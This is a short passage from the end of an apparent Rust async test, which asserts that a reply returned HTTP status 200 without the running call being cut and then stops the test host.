    assert_eq!(reply.status, 200, "the running call was cut: {}", reply.body);
    host.stop().await;
}
